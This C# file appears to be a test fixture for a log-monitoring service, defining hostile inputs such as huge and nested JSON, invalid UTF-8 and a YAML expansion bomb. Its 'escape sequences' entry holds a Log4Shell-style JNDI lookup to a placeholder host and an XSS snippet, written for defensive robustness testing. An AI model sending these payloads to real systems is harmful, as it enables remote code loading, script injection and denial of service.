using System.Text;

namespace Isms.Monitor.EndToEnd.BadInput;

/// <summary>What no sender should send.</summary>
static class Hostile
{
    public static readonly IReadOnlyDictionary<string, byte[]> Bodies = new Dictionary<string, byte[]>
    {
        ["random bytes"] = RandomBytes(1 << 20),
        ["a line of 1 MB"] = Text(new string('a', 1 << 20)),
        ["a line of 5 MB that looks like a firewall's"] = Text("<166>Nov 24 10:00:00 fw-01 %ASA-6-302013: " + new string('x', 5 << 20)),
        ["invalid UTF-8"] = [.. Text("<13>Nov 24 10:00:00 host sshd[1]: Failed password for "), 0xC3, 0x28, 0xF0, 0x9F, 0xED, 0xA0, 0x80, 0xFF, (byte)'\n'],
        ["truncated JSON"] = Text("""{"timestamp":"2026-11-24T10:00:00.0+0000","event_type":"alert","alert":{"signature":"x","sever"""),
        ["deeply nested objects"] = Text(string.Concat(Enumerable.Repeat("""{"a":""", 100_000))),
        ["deeply nested arrays"] = Text("""{"a":""" + new string('[', 100_000) + new string(']', 100_000) + "}"),
        ["an object with 100,000 fields"] = Text("{" + string.Join(',', Enumerable.Range(0, 100_000).Select(at => $"\"f{at}\":{at}")) + "}"),
        ["numbers that overflow"] = Text("""{"timestamp":"9999999-99-99T99:99:99Z","src_port":1e999999,"event_type":"flow","flow":{"bytes_toserver":99999999999999999999999}}"""),
        ["NUL bytes and controls"] = [.. Enumerable.Range(0, 4096).Select(at => (byte)(at % 32))],
        ["escape sequences"] = Text("\u001b[2J\u001b]0;owned\u0007<script>alert(1)</script>${jndi:ldap://192.0.2.1/a}"),
        ["empty lines only"] = [.. Enumerable.Repeat((byte)'\n', 100_000)],
        ["nothing"] = [],
    };

    /// <summary>Nine levels of ten references each: a thousand million values when it is expanded.</summary>
    public static string YamlBomb(string head = "", string tail = "")
    {
        var text = new StringBuilder(head).AppendLine("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]");
        for (var level = 1; level <= 9; level++)
            text.AppendLine($"a{level}: &a{level} [{string.Join(", ", Enumerable.Repeat($"*a{level - 1}", 10))}]");
        return text.Append(tail).ToString();
    }

    static byte[] Text(string line) => Encoding.UTF8.GetBytes(line + "\n");

    static byte[] RandomBytes(int count)
    {
        var bytes = new byte[count];
        new Random(6).NextBytes(bytes);
        return bytes;
    }
}
